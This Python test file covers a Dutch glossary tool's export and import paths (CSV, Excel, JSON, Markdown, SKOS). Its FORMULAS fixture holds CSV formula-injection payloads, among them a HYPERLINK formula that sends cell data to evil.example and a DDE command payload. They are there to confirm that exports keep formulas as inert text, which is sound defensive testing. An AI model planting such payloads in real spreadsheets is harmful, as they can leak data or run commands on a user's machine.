"""Exports and imports: round trips give back the same entries, SKOS parses, imports never half-apply."""

from __future__ import annotations

import json

import pytest
from rdflib import RDF, Graph, Literal, URIRef
from rdflib.namespace import SKOS

from glossary import partnerships
from glossary.entries import editing, exports
from glossary.errors import NotFound

ENTRIES = [
    {"term": "kwaliteit", "definition": "Werk zonder **fouten**, volgens de procedures;\nook 's avonds.", "scope": "In de wijk.",
     "not_to_confuse_with": ["inzet", "aandacht, prioriteit"], "examples": ["Checklist, stap 1", "Audit \"zonder\" bevindingen"],
     "synonyms": ["kwaliteitsniveau"], "condition_ids": ["1.3", "3.3"], "notes": "Zie ook: regie.", "status": "vastgesteld"},
    {"term": "regie", "definition": "Wie de leiding neemt.", "status": "te_herzien"},
    {"term": "Één loket", "definition": "Eén plek voor alle vragen — ook in het Engels: one-stop shop.", "condition_ids": ["4.3"]},
]


@pytest.fixture
def glossary(db, world):
    for data in ENTRIES:
        editing.create_entry(db, world.facilitator_id, world.partnership_id, data)
    return world


def records(db, partnership_id):
    return [exports.entry_record(e) for e in editing.entries_of(db, partnership_id)]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_then_import_gives_back_the_same_entries(db, glossary, fmt):
    exported = exports.export(db, glossary.partnership_id, fmt)
    empty = partnerships.create_partnership(db, glossary.facilitator_id, "Regio West", ["A"])
    preview = exports.preview_import(db, glossary.facilitator_id, empty.id, exported.content.encode(), fmt)
    assert preview.ok and preview.count("create") == 3
    assert editing.entries_of(db, empty.id) == []  # the dry run wrote nothing
    exports.apply_import(db, glossary.facilitator_id, empty.id, exported.content, fmt)
    assert records(db, empty.id) == records(db, glossary.partnership_id)
    assert {e.current.source for e in editing.entries_of(db, empty.id)} == {"import"}
    # Importing the same file again changes nothing.
    again = exports.apply_import(db, glossary.facilitator_id, empty.id, exported.content, fmt)
    assert again.count("unchanged") == 3
    assert {e.version for e in editing.entries_of(db, empty.id)} == {1}


def test_an_import_with_errors_lists_them_per_row_and_writes_nothing(db, glossary):
    content = (
        "begrip;definitie;voorwaarden;status\n"
        "nieuw;Een nieuw begrip.;1.1;concept\n"
        "regie;Een andere tekst.;;vastgesteld\n"
        ";Zonder term.;;\n"
        "fout;Tekst;9.9;concept\n"
        "Nieuw;Dubbel.;;concept\n"
    )
    preview = exports.preview_import(db, glossary.facilitator_id, glossary.partnership_id, content, "csv")
    assert not preview.ok
    by_row = {r.row: r for r in preview.rows}
    assert (by_row[2].action, by_row[3].action) == ("create", "update")
    assert "term" in str(by_row[4].errors[0])
    assert "9.9" in str(by_row[5].errors[0])
    assert "rij 2" in str(by_row[6].errors[0])
    with pytest.raises(exports.ImportRefused) as refused:
        exports.apply_import(db, glossary.facilitator_id, glossary.partnership_id, content, "csv")
    assert len([r for r in refused.value.preview.rows if r.errors]) == 3
    db.expire_all()
    assert editing.find_entry(db, glossary.partnership_id, "nieuw") is None
    assert editing.find_entry(db, glossary.partnership_id, "regie").current.definition == "Wie de leiding neemt."


def test_an_unreadable_file_is_reported_as_a_whole(db, glossary):
    for content, fmt, message in [
        (b"\xff\xfe\x00", "csv", "UTF-8"),
        ("naam,tekst\nx,y\n", "csv", "term"),
        ("{not json", "json", "JSON"),
        ('{"entries": 3}', "json", "entries"),
    ]:
        preview = exports.preview_import(db, glossary.facilitator_id, glossary.partnership_id, content, fmt)
        assert not preview.ok and message in str(preview.file_error)


def test_only_facilitators_of_the_partnership_import(db, glossary):
    from glossary import accounts

    other = accounts.create_facilitator(db, "olga", "correct horse battery", "Olga")
    with pytest.raises(NotFound):
        exports.preview_import(db, other.id, glossary.partnership_id, "term,definition\nx,y\n", "csv")


def test_skos_export_parses_back_with_rdflib(db, glossary):
    turtle = exports.export(db, glossary.partnership_id, "ttl", base_iri="https://samenspraak.example").content
    graph = Graph().parse(data=turtle, format="turtle")
    schemes = set(graph.subjects(RDF.type, SKOS.ConceptScheme))
    glossary_scheme = URIRef(f"https://samenspraak.example/partnerships/{glossary.partnership_id}/glossary")
    assert glossary_scheme in schemes and len(schemes) == 2
    concepts = {str(graph.value(c, SKOS.prefLabel)): c for c in graph.subjects(SKOS.inScheme, glossary_scheme)}
    assert set(concepts) == {"kwaliteit", "regie", "Één loket"}
    quality = concepts["kwaliteit"]
    assert graph.value(quality, SKOS.definition) == Literal("Werk zonder fouten, volgens de procedures;\nook 's avonds.", lang="nl")
    assert graph.value(quality, SKOS.scopeNote) == Literal("In de wijk.", lang="nl")
    assert graph.value(quality, SKOS.altLabel) == Literal("kwaliteitsniveau", lang="nl")
    linked = sorted(str(graph.value(c, SKOS.notation)) for c in graph.objects(quality, SKOS.relatedMatch))
    assert linked == ["1.3", "3.3"]
    condition = next(iter(graph.objects(quality, SKOS.relatedMatch)))
    assert (condition, RDF.type, SKOS.Concept) in graph
    assert graph.value(condition, SKOS.prefLabel) is not None
    conditions = [c for c in graph.subjects(RDF.type, SKOS.Concept) if (c, SKOS.broader, None) in graph]
    assert len(conditions) == 12


def test_markdown_and_json_exports_carry_the_content(db, glossary):
    markdown = exports.export(db, glossary.partnership_id, "md").content
    assert "## kwaliteit" in markdown and "3.3 Lerend vermogen" in markdown and "- inzet" in markdown
    data = json.loads(exports.export(db, glossary.partnership_id, "json").content)
    assert data["format"] == "samenspraak-glossary" and data["framework"] == "pcm"
    assert [e["term"] for e in data["entries"]] == ["kwaliteit", "regie", "Één loket"]
    assert exports.export(db, glossary.partnership_id, "csv").filename == "woordenlijst-regio-oost.csv"


FORMULAS = [
    {"term": "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "definition": "=1+1", "scope": "+31 20 123 4567",
     "examples": ["@SUM(A1:A9)", "- een opsomming"], "notes": "-2+3"},
    {"term": "gewoon", "definition": "Tekst met = en + in het midden.", "synonyms": ["=cmd|' /C calc'!A0"]},
]


def test_the_csv_export_never_starts_a_cell_with_a_formula_and_imports_back_unchanged(db, world):
    import csv
    import io

    for data in FORMULAS:
        editing.create_entry(db, world.facilitator_id, world.partnership_id, data)
    exported = exports.export(db, world.partnership_id, "csv").content

    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert "'=1+1" in cells and "'@SUM(A1:A9)\n- een opsomming" in cells and "'+31 20 123 4567" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert "Tekst met = en + in het midden." in cells  # only the start of a cell matters

    other = partnerships.create_partnership(db, world.facilitator_id, "Regio West", ["A"])
    exports.apply_import(db, world.facilitator_id, other.id, exported, "csv")
    assert records(db, other.id) == records(db, world.partnership_id)
    assert editing.find_entry(db, other.id, "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")") is not None


def test_the_csv_export_starts_with_a_byte_order_mark_so_excel_reads_utf8(db, glossary):
    exported = exports.export(db, glossary.partnership_id, "csv")
    assert exported.content.startswith("\ufeffterm,definition,")
    assert "Één loket" in exported.content


def test_the_excel_export_opens_as_a_workbook_and_imports_back(db, glossary):
    import base64
    import io

    from openpyxl import load_workbook

    exported = exports.export(db, glossary.partnership_id, "xlsx")
    assert exported.filename.endswith(".xlsx") and isinstance(exported.content, bytes)
    sheet = load_workbook(io.BytesIO(exported.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == exports.CSV_COLUMNS
    assert sorted(r[0] for r in rows[1:]) == ["kwaliteit", "regie", "Één loket"]
    assert "inzet\naandacht, prioriteit" in next(r for r in rows if r[0] == "kwaliteit")
    other = partnerships.create_partnership(db, glossary.facilitator_id, "Regio West", ["A"])
    preview = exports.preview_import(db, glossary.facilitator_id, other.id, exported.content, "xlsx")
    assert preview.ok and preview.count("create") == 3 and [r.row for r in preview.rows] == [2, 3, 4]
    # The API and the import page's second step carry the workbook as base64 text.
    exports.apply_import(db, glossary.facilitator_id, other.id, base64.b64encode(exported.content).decode(), "xlsx")
    assert records(db, other.id) == records(db, glossary.partnership_id)


def test_the_excel_export_keeps_formula_like_text_as_text(db, world):
    import io

    from openpyxl import load_workbook

    for data in FORMULAS:
        editing.create_entry(db, world.facilitator_id, world.partnership_id, data)
    exported = exports.export(db, world.partnership_id, "xlsx").content
    cells = [c for row in load_workbook(io.BytesIO(exported)).active.iter_rows() for c in row]
    assert {c.data_type for c in cells if c.value} == {"s"}
    other = partnerships.create_partnership(db, world.facilitator_id, "Regio West", ["A"])
    exports.apply_import(db, world.facilitator_id, other.id, exported, "xlsx")
    assert records(db, other.id) == records(db, world.partnership_id)


def test_a_broken_or_oversized_workbook_is_refused_as_a_whole(db, glossary, monkeypatch):
    preview = exports.preview_import(db, glossary.facilitator_id, glossary.partnership_id, b"not a zip", "xlsx")
    assert preview.file_error is not None and "Excel" in str(preview.file_error)
    exported = exports.export(db, glossary.partnership_id, "xlsx").content
    monkeypatch.setattr(exports, "MAX_XLSX_UNPACKED_BYTES", 1000)
    preview = exports.preview_import(db, glossary.facilitator_id, glossary.partnership_id, exported, "xlsx")
    assert preview.file_error is not None and "te groot" in str(preview.file_error)


def test_apostrophes_and_unicode_line_separators_survive_a_csv_round_trip(db, world):
    tricky = [
        {"term": "'-x", "definition": "''=y", "scope": "'gewoon", "notes": "'+1"},
        {"term": "scheiding", "definition": "Tekst\u2028met regelscheiding.",
         "examples": ["een\u2028twee", "drie\u2029vier"], "synonyms": ["a\u0085b"]},
    ]
    for data in tricky:
        editing.create_entry(db, world.facilitator_id, world.partnership_id, data)
    exported = exports.export(db, world.partnership_id, "csv").content
    other = partnerships.create_partnership(db, world.facilitator_id, "Regio West", ["A"])
    exports.apply_import(db, world.facilitator_id, other.id, exported, "csv")
    assert records(db, other.id) == records(db, world.partnership_id)
    assert editing.find_entry(db, other.id, "'-x") is not None


def test_an_import_writes_in_small_batches_and_a_rerun_finishes_a_stopped_one(db, world, monkeypatch):
    from sqlalchemy import event

    monkeypatch.setattr(exports, "IMPORT_BATCH", 10, raising=False)
    monkeypatch.setattr(exports, "IMPORT_HOLD_SECONDS", 60)  # batches by count here, whatever the machine's speed
    monkeypatch.setattr(exports, "IMPORT_PAUSE_SECONDS", 0)
    rows = "term,definition\n" + "".join(f"begrip {i},Betekenis {i}.\n" for i in range(35))
    commits = []
    event.listen(db, "after_commit", lambda s: commits.append(1))
    exports.apply_import(db, world.facilitator_id, world.partnership_id, rows, "csv")
    assert len(commits) >= 4  # 35 rows in batches of 10; the write lock is free in between
    assert len(editing.entries_of(db, world.partnership_id)) == 35

    other = partnerships.create_partnership(db, world.facilitator_id, "Regio West", ["A"])
    real = editing.add_version
    calls = []

    def failing(*args, **kwargs):
        calls.append(1)
        if len(calls) == 25:
            raise RuntimeError("server stopped")
        return real(*args, **kwargs)

    monkeypatch.setattr(editing, "add_version", failing)
    with pytest.raises(RuntimeError):
        exports.apply_import(db, world.facilitator_id, other.id, rows, "csv")
    db.rollback()
    assert len(editing.entries_of(db, other.id)) == 20  # two whole batches
    monkeypatch.setattr(editing, "add_version", real)
    preview = exports.apply_import(db, world.facilitator_id, other.id, rows, "csv")
    assert preview.count("unchanged") == 20 and preview.count("create") == 15
    assert len(editing.entries_of(db, other.id)) == 35


def test_an_import_lets_go_of_the_write_lock_when_a_batch_takes_too_long(db, world, monkeypatch):
    from sqlalchemy import event

    monkeypatch.setattr(exports, "IMPORT_HOLD_SECONDS", 0)  # every row is already "too long"
    monkeypatch.setattr(exports, "IMPORT_PAUSE_SECONDS", 0)
    commits = []
    event.listen(db, "after_commit", lambda s: commits.append(1))
    rows = "term,definition\n" + "".join(f"begrip {i},Betekenis {i}.\n" for i in range(7))
    exports.apply_import(db, world.facilitator_id, world.partnership_id, rows, "csv")
    assert len(commits) >= 7 and len(editing.entries_of(db, world.partnership_id)) == 7
    assert [e.term for e in editing.search_entries(db, world.partnership_id, "begrip 3")][:1] == ["begrip 3"]
